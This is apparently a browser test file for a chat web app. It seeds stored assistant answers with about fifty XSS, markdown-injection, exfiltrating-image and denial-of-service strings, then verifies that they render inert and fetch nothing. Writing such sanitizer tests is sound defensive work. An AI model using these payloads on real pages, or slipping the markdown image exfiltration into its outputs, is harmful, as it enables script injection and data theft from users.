/** Answers that attack the page: whatever a model writes is words, fetches nothing, and leads nowhere. */
import { expect, test } from "./page/visit.ts";

const REMOTE = "https://attacker.test";

/** Each is an answer that an earlier visit stored: it is shown by the way every answer is. */
const HOSTILE: readonly string[] = [
  `<script>fetch("${REMOTE}/1");document.title="pwned"</script>`,
  `<img src="${REMOTE}/2.png" onerror="document.title='pwned'">`,
  `<svg onload="document.title='pwned'"><image href="${REMOTE}/3.png"/></svg>`,
  `<svg><script>document.title='pwned'</script></svg>`,
  `<math><mi><mglyph><style><img src=x onerror=document.title='pwned'></style></mglyph></mi></math>`,
  `<iframe src="${REMOTE}/4"></iframe>`,
  `<iframe srcdoc="<script>parent.document.title='pwned'</script>"></iframe>`,
  `<object data="${REMOTE}/5"></object><embed src="${REMOTE}/6">`,
  `<link rel="stylesheet" href="${REMOTE}/7.css"><link rel="preload" as="image" href="${REMOTE}/8">`,
  `<link rel="dns-prefetch" href="${REMOTE}"><link rel="preconnect" href="${REMOTE}">`,
  `<style>@import "${REMOTE}/9.css"; body{background:url(${REMOTE}/10.png)}</style>`,
  `<div style="background:url(${REMOTE}/11.png);position:fixed;inset:0;z-index:9999">cover</div>`,
  `<base href="${REMOTE}/">`,
  `<meta http-equiv="refresh" content="0;url=${REMOTE}/12">`,
  `<form action="${REMOTE}/13"><input name="q" autofocus onfocus="document.title='pwned'"><button>Go</button></form>`,
  `<video src="${REMOTE}/14.mp4" autoplay></video><audio src="${REMOTE}/15.mp3" autoplay></audio>`,
  `<video poster="${REMOTE}/16.png"></video><source srcset="${REMOTE}/17.png">`,
  `<picture><source srcset="${REMOTE}/18.png"><img srcset="${REMOTE}/19.png 2x"></picture>`,
  `<a href="javascript:document.title='pwned'" autofocus>click</a>`,
  `<a href="${REMOTE}/20" ping="${REMOTE}/21">click</a>`,
  `<details open ontoggle="document.title='pwned'"><summary>x</summary></details>`,
  `<body onload="document.title='pwned'"><input onfocus="document.title='pwned'" autofocus>`,
  `<template><img src="${REMOTE}/22.png"></template><noscript><img src="${REMOTE}/23.png"></noscript>`,
  `<portal src="${REMOTE}/24"></portal><frameset><frame src="${REMOTE}/25"></frameset>`,
  `<input type="image" src="${REMOTE}/26.png"><table background="${REMOTE}/27.png"><td>x</table>`,
  `<!--><img src="${REMOTE}/28.png">--><![CDATA[<img src="${REMOTE}/29.png">]]>`,
  `</div></article></section></main><h1 id="prompt">Break out</h1><script src="${REMOTE}/30.js"></script>`,
  `![exfiltrated](${REMOTE}/31.png?secret=1)`,
  `![a][ref]\n\n[ref]: ${REMOTE}/32.png "title"`,
  `[innocent](${REMOTE}/33) and <${REMOTE}/34> and ${REMOTE}/35 and www.attacker.test/36`,
  `[run](javascript:document.title='pwned') [data](data:text/html,<script>document.title='pwned'</script>)`,
  `[x](vbscript:msgbox) [y](  javascript&colon;document.title='pwned') ![z](data:image/svg+xml,<svg/onload=alert(1)>)`,
  `[![img](${REMOTE}/37.png)](${REMOTE}/38)`,
  "```html\n<script>document.title='pwned'</script><img src=https://attacker.test/39.png>\n```",
  "``<img src=x onerror=document.title='pwned'>`` and `</code><img src=https://attacker.test/40.png>`",
  `| a | b |\n| --- | :-: |\n| <img src=${REMOTE}/41.png> | ![](${REMOTE}/42.png) |`,
  `> <script>document.title='pwned'</script>\n\n1. <img src=${REMOTE}/43.png>\n   - ![](${REMOTE}/44.png)`,
  `# <svg/onload=document.title='pwned'>\n\n- [x] <img src=${REMOTE}/45.png onerror=alert(1)>`,
  `**bold <img src=${REMOTE}/46.png onload=document.title='pwned'>** ~~<b onmouseover=alert(1)>x</b>~~`,
  `&lt;script&gt;document.title='pwned'&lt;/script&gt; &#60;img src=${REMOTE}/47.png&#62;`,
  "x".repeat(50_000),
  `${"word ".repeat(5_000)}${"\u0301".repeat(2_000)}`,
  ["```", "0".repeat(20_000), "```"].join("\n"),
  "\u202eevil\u202c \u2066left\u2069 \u2067right \u061c\u200f\u200e\ufeff",
  "\u0000\u0007\u001b[31mred\u001b[0m\b\b\b\u0085\u2028\u2029 \uffff\ufffe \ud800",
  `${"> ".repeat(300)}deep`,
  `${"[".repeat(3_000)}${"](".repeat(1_500)}`,
  `${"*".repeat(3_000)}a${"_".repeat(3_000)}`,
  `${"- x\n  ".repeat(100)}${"<div>".repeat(500)}`,
  '<a name="getElementById"></a><img name="body"><form id="alert"></form><input id="prompt">',
];

test(`${HOSTILE.length} hostile answers render inert, fetch nothing, and leave the page as it was`, async ({
  page,
  site,
}) => {
  const asked: string[] = [];
  page.context().on("request", (request) => asked.push(request.url()));
  await page.setViewportSize({ width: 390, height: 844 });
  await page.goto(site.url);
  await page.evaluate(async (answers) => {
    const turns = answers.flatMap((content) => [
      { role: "user", content },
      { role: "assistant", content },
    ]);
    const database = await new Promise<IDBDatabase>((resolve, reject) => {
      const opening = indexedDB.open("webmoe-conversations");
      opening.onsuccess = () => resolve(opening.result);
      opening.onerror = () => reject(opening.error);
    });
    const writing = database.transaction("conversations", "readwrite");
    writing
      .objectStore("conversations")
      .put({ id: "hostile", title: "<img src=x>", turns, updated: Date.now() }, "hostile");
    await new Promise((resolve) => {
      writing.oncomplete = resolve;
    });
    database.close();
  }, HOSTILE);
  await page.reload();
  await page.getByRole("radio", { name: "Chat" }).check();
  const answers = page.locator(".of-assistant .turn-body");
  await expect(answers).toHaveCount(HOSTILE.length);
  // Rendered as Markdown, not left as it was written: the table is one.
  await expect(answers.locator("td")).toHaveCount(2);
  await page.mouse.wheel(0, 20_000);

  const found = await page.evaluate(() => {
    const allowed =
      "p br hr h1 h2 h3 h4 h5 h6 ul ol li blockquote pre code em strong del table thead tbody tr th td div button";
    const names = new Set(allowed.split(" "));
    const problems: string[] = [];
    for (const element of document.querySelectorAll(".turn-body *")) {
      const name = element.localName;
      if (!names.has(name)) problems.push(`<${name}>`);
      for (const { name: attribute } of element.attributes)
        if (!["align", "start", "class", "type", "tabindex", "aria-label"].includes(attribute))
          problems.push(`${name}[${attribute}]`);
      if (element.hasAttribute("class") && !["code", "copy", "as-written"].includes(element.className))
        problems.push(`${name}.${element.className}`);
    }
    return { problems, title: document.title, width: document.documentElement.scrollWidth };
  });
  expect(found).toEqual({ problems: [], title: "WebMoE", width: 390 });
  // What was written is what is read.
  await expect(answers.nth(0)).toContainText('document.title="pwned"');
  await expect(answers.nth(27)).toContainText(`exfiltrated (${REMOTE}/31.png?secret=1)`);
  await expect(answers.nth(29)).toContainText(`innocent (${REMOTE}/33)`);
  expect(asked.filter((url) => !url.startsWith(site.url))).toEqual([]);
});
